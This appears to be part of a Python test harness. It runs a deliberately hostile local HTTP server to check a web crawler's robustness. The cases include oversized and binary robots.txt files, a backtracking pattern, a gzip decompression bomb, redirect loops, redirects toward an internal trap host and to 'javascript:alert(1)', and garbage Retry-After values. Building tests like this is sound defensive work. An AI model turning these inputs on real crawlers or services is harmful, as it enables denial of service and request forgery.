]  # fmt: skip

ROBOTS = [
    Case("robots-huge", whole(), ok(b"ok"), robots=robots_say(b"User-agent: *\n" + b"Disallow: /no/where\n" * 200_000 + b"Disallow: /\n")),
    Case("robots-binary", whole(), ok(b"ok"), robots=robots_say(random.Random(2).randbytes(100_000))),
    Case("robots-backtrack", whole(), ok(b"ok"), robots=robots_say(b"User-agent: *\nDisallow: /%b$\n" % (b"*a" * 500)), below=("", "/" + "a" * 200)),
    Case("robots-bomb", whole(), ok(b"ok"), robots=ok(bomb(64 << 20), _GZIP, kind=b"text/plain")),
    Case("robots-move-to-themselves", whole(), ok(b"ok"), robots=robots_moved("/robots.txt")),
    Case("robots-move-in-a-ring", whole(), ok(b"ok"), robots=robots_moved("/robots.txt?ring={other}")),
    Case("robots-move-for-ever", whole(), ok(b"ok"), robots=robots_moved("/robots.txt?n={n}")),
    Case("robots-move-to-each-other", whole(), ok(b"ok"), robots=robots_moved("http://127.0.0.1:{ports[robots-move-to-another]}/robots.txt")),
    Case("robots-move-to-another", whole(), ok(b"ok"), robots=robots_moved("http://127.0.0.1:{ports[robots-move-to-each-other]}/robots.txt")),
    Case("robots-move-once", whole(), ok(b"ok"), robots=robots_moved("http://127.0.0.1:{ports[robots-move-twice]}/robots.txt")),
    Case("robots-move-twice", whole(), ok(b"ok"), robots=robots_moved("http://127.0.0.1:{ports[robots-huge]}/robots.txt")),
    Case("robots-move-inward", whole(), ok(b"ok"), robots=robots_moved("http://127.0.0.2:{trap}/robots.txt")),
    Case("robots-move-to-no-host", whole(), ok(b"ok"), robots=robots_moved("http://[/robots.txt")),
    Case("robots-move-to-javascript", whole(), ok(b"ok"), robots=robots_moved("javascript:alert(1)")),
    Case("robots-fail", waits("HTTP 503", status=503, least=2), ok(b"no"), robots=ok(b"no", status=b"503 No"), about="robots", has_neighbour=False),
]  # fmt: skip

LIMITS = [
    *(
        Case(
            f"retry-after-{name}", waits("HTTP 429", status=429), has_neighbour=False,
            serve=ok(b"no", b"Retry-After: " + value + b"\r\n", status=b"429 Slow Down"),
        )
        for name, value in {
            "1e12": b"1000000000000", "year-9999": b"Fri, 31 Dec 9999 23:59:59 GMT", "negative": b"-5",
            "garbage": b"s\xff\0\0n", "nan": b"nan", "1e400": b"1e400", "400-digits": b"1" + b"0" * 400, "month-13": b"2026-13-99",
        }.items()
    ),
    Case("retry-after-a-page", whole(), ok(b"ok", b"Retry-After: 99999999999\r\nX-RateLimit-Reset: 1e999\r\n")),
    Case("fails-for-ever", waits("HTTP 503", status=503, least=2), ok(b"no", status=b"503 Never"), has_neighbour=False),
    Case("fails-for-ever-at-length", waits("HTTP 500", status=500, least=2), ok(b"no", status=b"500 Never"), has_neighbour=False),
]  # fmt: skip

CASES = [
    *SLOW, *ENDLESS, *HEADS, *LENGTHS, *CHUNKS, *SMUGGLING, *CODINGS, *REDIRECTS, *BREAKS, *TRAPS, *ROBOTS, *LIMITS,
]  # fmt: skip


# The server


class Hostile:
    """Serves all cases in a thread of its own. ``directory`` takes its certificates."""

    def __init__(self, directory: Path) -> None:
        self.cases = CASES
        #: URL → what was asked and answered under it, of the ports of all cases.
        self.log: dict[str, list[Exchange]] = defaultdict(list)
        #: Who came to the trap.
        self.lured: list[str] = []
        self.authority = Authority(directory)
        self._good = self.authority.server_context()
        self._certificates = directory
        self._front = Case("front", whole(), self._serve_front)
        self._ready = threading.Event()
        self._thread = threading.Thread(target=asyncio.run, args=(self._run(),), daemon=True)

    @property
    def front(self) -> str:
        """The page that names everything."""
        return f"http://{HOST}:{self._front.port}/"

    def paths(self, case: Case) -> list[str]:
        """What the front page names of a case."""
        return [self._at(case, f"/{case.name}{below}") for below in case.below or ("",)]

    def about(self, case: Case) -> list[str]:
        """The URLs that the expectation of a case is about."""
        return [self._at(case, "/robots.txt")] if case.about == "robots" else self.paths(case)

    def neighbours(self, case: Case) -> list[str]:
        """The ordinary pages on a case's port."""
        return [self._at(case, f"/ordinary/{n}") for n in range(3)] if case.has_neighbour else []

    def ordinary(self) -> list[str]:
        """All that must be captured as if nothing were the matter."""
        found = [self._at(case, f"/{case.name}/found") for case in self.cases if case.finds]
        return [self.front, *found, *(url for case in self.cases for url in self.neighbours(case))]

    def ends(self) -> dict[str, tuple[tuple[str, str], ...]]:
        """URL → (state, reason) that it must come to, any of them, for all that must come to something."""
        (certificate,) = (case for case in self.cases if case.tls)
        return {
            **dict.fromkeys(self.ordinary(), (("done", ""),)),
            **{url: case.expected.ends for case in self.cases for url in self.about(case)},
            # Its tries are used up, or its site is noticed to have died first.
            self._at(certificate, f"/{certificate.name}/after"): (("parked", "tls"), ("queued", ""), ("queued", "tls")),
            f"https://{HOST}:{self._front.port}/robots.txt": (("parked", "tls"),),
            f"http://{'a' * 64}.example/robots.txt": (("parked", "dns"),),
            "http://no-such-host.invalid/robots.txt": (("parked", "dns"), ("queued", "dns"), ("queued", "timeout")),
        }

    def _at(self, case: Case, path: str) -> str:
        return f"{'https' if case.tls else 'http'}://{HOST}:{case.port}{path}"

    def __enter__(self) -> Self:
        self._thread.start()
        assert self._ready.wait(30)
        return self

    def __exit__(self, *exc: object) -> None:
        self._loop.call_soon_threadsafe(self._stop.set)
        self._thread.join(30)

    def spoil_certificate(self) -> None:
        """Let the TLS server show a certificate that ran out, from the next connection on."""
        before = set(self._certificates.glob("leaf-*.pem"))
        self.authority.server_context(expired=True)
        (expired,) = set(self._certificates.glob("leaf-*.pem")) - before
        self._good.load_cert_chain(expired)

    async def _run(self) -> None:
        self._loop, self._stop, self._tasks = asyncio.get_running_loop(), asyncio.Event(), set[asyncio.Task[None]]()
        with ExitStack() as stack:
            self._listen_everywhere(stack)
            for case in (self._front, *self.cases):
                await self._listen(case, stack)
            self._ready.set()
            await self._stop.wait()
            for task in self._tasks:
                task.cancel()
            await asyncio.gather(*self._tasks, return_exceptions=True)
        await asyncio.sleep(0.1)

    async def _listen(self, case: Case, stack: ExitStack) -> None:
        sock = stack.enter_context(socket.create_server((HOST, 0), backlog=0 if case.listens == "full" else 128))
        case.port = sock.getsockname()[1]
        if case.listens == "full":
            for _ in range(4):  # they fill its backlog, and nobody takes them out
                waiting = stack.enter_context(socket.socket())
                waiting.setblocking(False)
                waiting.connect_ex((HOST, case.port))
        elif case.listens == "refuses":
            sock.close()
        else:

            async def connected(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
                await self._connected(case, reader, writer)

            context = self._good if case.tls else None
            server = await asyncio.start_server(connected, sock=sock, ssl=context, limit=1 << 20)
            stack.callback(server.close)

    def _listen_everywhere(self, stack: ExitStack) -> None:
        """Set the trap."""
        sock = stack.enter_context(socket.create_server(("0.0.0.0", 0)))
        self.trap = sock.getsockname()[1]
        socks = [sock]
        with suppress(OSError):  # no IPv6 here
            socks.append(stack.enter_context(socket.create_server(("::", self.trap), family=socket.AF_INET6)))
        for one in socks:
            one.setblocking(False)
            self._loop.add_reader(one, self._caught, one)
            stack.callback(self._loop.remove_reader, one)

    def _caught(self, sock: socket.socket) -> None:
        connection, address = sock.accept()
        self.lured.append(f"{address} to {connection.getsockname()}")
        connection.close()

    async def _connected(self, case: Case, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        task = asyncio.current_task()
        assert task is not None
        self._tasks.add(task)
        with suppress(OSError, asyncio.IncompleteReadError, asyncio.LimitOverrunError, asyncio.CancelledError):
            writer.write(case.greeting)
            while await self._answer(case, reader, writer):
                pass
            await writer.drain()
            writer.write_eof() if writer.can_write_eof() else None
            writer.close()
            await asyncio.wait_for(writer.wait_closed(), 5)
        writer.transport.abort()
        self._tasks.discard(task)

    async def _answer(self, case: Case, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> bool:
        first = await reader.readexactly(1)
        if first == b"\x16":  # a TLS handshake on a plain port
            writer.write(sized(b"Connection: close\r\n", b"no TLS here", b"400 Bad Request"))
            return False
        request = first + await reader.readuntil(b"\r\n\r\n")
        exchange = Exchange(request, [case.greeting] if case.greeting else [])
        peer = Peer(self, case, reader, writer, exchange, request.split(b" ")[1].decode("latin-1"))
        self.log[self._at(case, peer.target)].append(exchange)
        return bool(await self._serve(peer)(peer))

    def _serve(self, peer: Peer) -> Serve:
        case, target = peer.case, peer.target
        if target.startswith("/robots.txt"):
            return case.robots
        if target.startswith("/ordinary/") or target.endswith("/found"):
            return ok(f"{target} beside {case.name}".encode())
        if target == "/" or target == f"/{case.name}" or target.startswith((f"/{case.name}/", f"/{case.name}?")):
            return case.serve
        return ok(b"nothing here", status=b"404 No")

    async def _serve_front(self, peer: Peer) -> bool:
        if peer.target != "/":
            return bool(await ok(b"nothing here", status=b"404 No")(peer))
        tags = {
            "link": "<a href='{}'>", "image": "<img src='{}'>",
            "feed": "<link rel=alternate type=application/rss+xml href='{}'>",
        }  # fmt: skip
        lines = [tags["link"].format(url) for case in self.cases for url in self.neighbours(case)]
        lines += [tags[case.named].format(escape(url)) for case in self.cases for url in self.paths(case)]
        lines += [tags["link"].format(f"https://{HOST}:{self._front.port}/tls-to-a-plain-port")]
        lines += [
            tags["image"].format(url) for url in ("http://no-such-host.invalid/a.png", f"http://{'a' * 64}.example/")
        ]
        return bool(await ok("\n".join(lines).encode())(peer))
